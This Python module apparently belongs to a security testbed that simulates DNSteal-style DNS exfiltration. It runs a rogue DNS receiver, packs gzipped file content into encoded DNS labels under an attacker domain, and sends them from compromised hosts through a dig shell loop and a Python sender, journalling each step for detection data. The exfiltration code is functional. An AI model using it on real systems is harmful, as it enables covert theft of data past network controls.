"""DNS exfiltration from a taken server: what DNSteal's one-liner sends, in its variants, and its receiver."""

import base64
import gzip
import random
import socket
import struct
import threading

import words
from actors.lookups import ask

RECEIVED = {"dns": "attacker:dnsteal:dnsteal-received"}
DROPPED = {"dns": "attacker:dnsteal:dnsteal-dropped"}


def receive(lab):
    """The intruder's name server: answers every query with its own address, and so acknowledges the piece."""
    address = lab.testbed.intruder.address

    def loop():
        lab.attacker.enter()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((address, 53))
            while True:
                packet, peer = sock.recvfrom(2048)
                end = packet.index(b"\0", 12) + 5
                answer = struct.pack(">HHHLH", 0xC00C, 1, 1, 30, 4) + socket.inet_aton(address)
                sock.sendto(packet[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + packet[12:end] + answer, peer)

    threading.Thread(target=loop, name="receiver", daemon=True).start()


def pieces(content, file_name, style, rng):
    """The names that carry `content`: 1-4 labels of up to 60 characters joined by "-.", then the file's name.

    style: base64 or hex, with "+prefix" for DNSteal's numbered form (3x6-.<n>-.).
    """
    packed = gzip.compress(content)
    text = packed.hex() if style.startswith("hex") else base64.b64encode(packed).decode().replace("+", "*")
    size = rng.choice([30, 45, 57, 57, 60])
    # A DNS name holds 253 characters; the prefixed form needs some for itself.
    per_name = max(1, min(rng.choice([2, 3, 3, 4]), (235 - len(file_name)) // (size + 2)))
    chunks = [text[i:i + size] for i in range(0, len(text), size)]
    names = []
    for number, i in enumerate(range(0, len(chunks), per_name)):
        group = chunks[i:i + per_name]
        if style.endswith("+prefix"):
            group = ["3x6", str(number), *group]
        names.append("-.".join(group) + "-." + file_name)
    return names


def _content(rng, size):
    """A company's text: people, orders, figures."""
    return "\n".join(f"{rng.choice(words.FIRST)};{rng.choice(words.NOUNS)};{rng.randrange(10**6)};{rng.getrandbits(60):x}" for _ in range(size)).encode()


def run(lab):
    """Send files out from two servers; the company's resolver blocks one of the domains."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 900)
    styles = ["base64", "hex", "base64+prefix", "hex+prefix"]
    count = 2 if bed.short else 10
    for i in range(count):
        host = (lab.intra, lab.web)[i % 2]
        blocked = i % 4 == 3 and not bed.short
        ending = rng.choice(["txt", "pdf", "xlsx", "gz", "sql", "docx", "conf"])
        file_name = f"{rng.choice(words.NOUNS)}{rng.choice(['', '_2026', '-old', ''])}.{ending}"
        if blocked:
            file_name += "." + bed.intruder.blocked_domain
        elif i % 3 != 0:
            file_name += "." + bed.intruder.exfil_domain
        style = styles[i % 4] if not bed.short else ("base64+prefix", "base64")[i]
        names = pieces(_content(rng, rng.randrange(60, 110) if bed.short else rng.randrange(120, 400)), file_name, style, rng)
        tool = "dig" if i == 0 else "script"
        with lab.journal.step(f"exfil-{style}-{i}", tool, [host.address], DROPPED if blocked else RECEIVED, names=names):
            if tool == "dig":
                loop = "while read -r n; do dig @%s \"$n\" +short +tries=1 +time=1; done" % lab.gate_address
                host.attempt(loop, user="www-data", timeout=60, text_input="\n".join(names) + "\n")
            else:
                _send(lab, host, names)


def _send(lab, host, names):
    """Send from the host's own network (a thread can be there; its files are not needed)."""
    def work():
        host.enter()
        for name in names:
            ask(lab.gate_address, name, "A", host.address)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join(90)
